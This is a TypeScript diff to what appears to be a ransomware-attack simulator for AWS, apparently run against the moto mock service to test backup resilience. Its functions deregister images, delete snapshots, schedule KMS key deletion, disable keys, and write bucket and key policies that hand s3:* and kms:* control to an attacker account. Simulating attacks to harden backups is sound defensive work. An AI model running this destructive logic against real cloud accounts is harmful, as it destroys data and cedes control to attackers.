@@ -252,7 +252,8 @@ async function destroySource(attacker: (region: string) => Clients, t: Ransomwar
     }
 
     // Images, then their snapshots (EC2 keeps a snapshot while an image uses it), then the servers.
-    for (const img of (await ec2.send(new DescribeImagesCommand({ Owners: ['self'] }))).Images ?? []) {
+    const ownImages = (await ec2.send(new DescribeImagesCommand({ Owners: ['self'] }))).Images ?? [];
+    for (const img of ownImages) {
       if (!inScope(t.scope, img)) continue;
       const id = img.ImageId ?? '';
       await attempt(day, src('ec2', 'DeregisterImage', id, { imageId: id }), () =>
@@ -261,6 +262,14 @@ async function destroySource(attacker: (region: string) => Clients, t: Ransomwar
     }
     for (const s of (await ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ['self'] }))).Snapshots ?? []) {
       if (!inScope(t.scope, s)) continue;
+      // A snapshot behind another owner's image is not the account's: moto lists its built-in
+      // images' snapshots under every account; AWS lists them as Amazon's, not with OwnerIds self.
+      const ami = /ami-[0-9a-f]+/.exec(s.Description ?? '')?.[0];
+      if (ami && !ownImages.some((i) => i.ImageId === ami)) {
+        const other = (await ec2.send(new DescribeImagesCommand({ ImageIds: [ami] })).catch(() => undefined))
+          ?.Images?.[0];
+        if (other && other.OwnerId !== t.account) continue;
+      }
       const id = s.SnapshotId ?? '';
       // EC2 releases a deregistered image's snapshots a moment later (InvalidSnapshot.InUse
       // meanwhile): the attacker waits and tries again, as a script would.
@@ -346,6 +355,14 @@ export async function objectVersions(s3: S3Client, bucket: string, prefix = '') 
   return out;
 }
 
+/** A resource policy that hands the resource to the attacker's account. */
+const attackerPolicy = (account: string, Action: string, Resource: string | string[]) => ({
+  Version: '2012-10-17',
+  Statement: [
+    { Sid: 'Ransom', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${account}:root` }, Action, Resource },
+  ],
+});
+
 /** In kura's backup account: the vault's objects and configuration, its keys, its roles. */
 async function attackBackups(attacker: (region: string) => Clients, t: RansomwareTargets, day: Attempt[]) {
   const c = attacker(t.regions[0] ?? '');
@@ -426,18 +443,8 @@ async function attackBackups(attacker: (region: string) => Clients, t: Ransomwar
       }),
     ),
   );
-  const open = {
-    Version: '2012-10-17',
-    Statement: [
-      {
-        Sid: 'Ransom',
-        Effect: 'Allow',
-        Principal: { AWS: `arn:aws:iam::${t.account}:root` },
-        Action: 's3:*',
-        Resource: [`arn:aws:s3:::${Bucket}`, `arn:aws:s3:::${Bucket}/*`],
-      },
-    ],
-  };
+  const open = attackerPolicy(t.account, 's3:*', [`arn:aws:s3:::${Bucket}`, `arn:aws:s3:::${Bucket}/*`]);
+
   await attempt(day, onVault('PutBucketPolicy', Bucket, {}, 'grant the attacker s3:*'), () =>
     s3.send(new PutBucketPolicyCommand({ Bucket, Policy: JSON.stringify(open) })),
   );
@@ -470,18 +477,8 @@ async function attackBackups(attacker: (region: string) => Clients, t: Ransomwar
       kms.send(new ScheduleKeyDeletionCommand({ KeyId: keyId, PendingWindowInDays: 7 })),
     );
     await attempt(day, onKey('DisableKey', {}), () => kms.send(new DisableKeyCommand({ KeyId: keyId })));
-    const mine = {
-      Version: '2012-10-17',
-      Statement: [
-        {
-          Sid: 'Ransom',
-          Effect: 'Allow',
-          Principal: { AWS: `arn:aws:iam::${t.account}:root` },
-          Action: 'kms:*',
-          Resource: '*',
-        },
-      ],
-    };
+    const mine = attackerPolicy(t.account, 'kms:*', '*');
+
     await attempt(day, onKey('PutKeyPolicy', { policyName: 'default' }, 'hand the key to the attacker'), () =>
       kms.send(
         new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: JSON.stringify(mine) }),
